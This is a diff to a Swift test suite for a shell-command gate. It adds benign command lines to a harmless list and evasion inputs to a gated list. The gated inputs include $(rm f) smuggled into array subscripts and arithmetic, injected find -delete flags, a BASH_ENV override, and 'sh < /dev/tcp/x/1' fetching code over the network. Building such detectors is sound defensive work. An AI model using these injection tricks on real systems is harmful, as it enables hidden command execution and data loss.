@@ -24,7 +24,12 @@ struct VariableTests {
       "curl -H \"Authorization: Bearer $TOKEN\" \"$API_URL/v1\"",
       "curl -sH \"X-Vault-Token: $(cat token)\" https://vault/v1/sys/health",
       "kubectl get pods -o custom-columns=I:.spec.containers[0].image",
-      "ssh web-1 -- systemctl status nginx",
+      "echo ${x:-none} ${x:0:8} ${a[0]} ${a[@]} ${#a[@]} ${x%%.*}", "echo $(( $(date +%s) - 5 ))",
+      "for ((i=0; i<3; i++)); do echo $i; done", "echo $(( $(ps aux | grep -c java) + 1 ))",
+      "ssh web-1 -- systemctl status nginx", "echo \"${PATH//:/$'\\n'}\"",
+      "crictl logs $(crictl ps -q | head -1)", "git diff $(git describe --tags --abbrev=0)..HEAD",
+      "aws ecs describe-tasks --tasks $(aws ecs list-tasks --query 'taskArns[]' --output text)",
+      "timeout 5 bash -c '</dev/tcp/db-1/5432'",
     ])
   func harmless(line: String) {
     let judgment = gate.judge(line: line)
@@ -52,7 +57,14 @@ struct VariableTests {
       "h=X-HTTP-Method-Override; curl -H \"$h: DELETE\" http://x/",
       "curl -H 'x-hTTp-mEtHoD-oVeRrIdE: DELETE' http://x/", "curl \"$x\"",
       "h=$'a\\r\\nX-HTTP-Method-Override: DELETE'; curl -H \"Accept: $h\" http://x/",
-      "exec < script", "exec 0<script", "mongosh \"$x\" --eval 'db.currentOp()'",
+      ": ${BASH_ENV:=f}; ls", ": ${POD:=-delete}; find . $POD", "x=; : ${x:=-delete}; find . $x",
+      "x='a[$(rm f)]'; echo ${!x}", "echo ${!y}", "x='a[$(rm f)]'; echo ${y[x]}",
+      "x='a[$(rm f)]'; echo ${y[$x]}", "echo ${y['$(rm f)']}", "echo \"${y[$(cat f)]}\"",
+      "x='a[$(rm f)]'; echo ${y:x}", "x='a[$(rm f)]'; echo ${y:0:$x}", "echo $(( $(cat f) ))",
+      "(( $(cat f) > 1 ))", "y='a[$(rm f)]'; for ((i=y; i<1; i++)); do ls; done",
+      "for ((i=0; i<PATH; i++)); do ls; done", "x=a; ((x=-1)); psql $x",
+      "exec < script", "exec 0<script", "exec < /dev/tcp/x/1", "sh < /dev/tcp/x/1",
+      "cat < /dev/tcp/$x/1", "x=\"${y:-'}'$(rm f)'\"", "mongosh \"$x\" --eval 'db.currentOp()'",
     ])
   func gated(line: String) {
     let judgment = gate.judge(line: line)
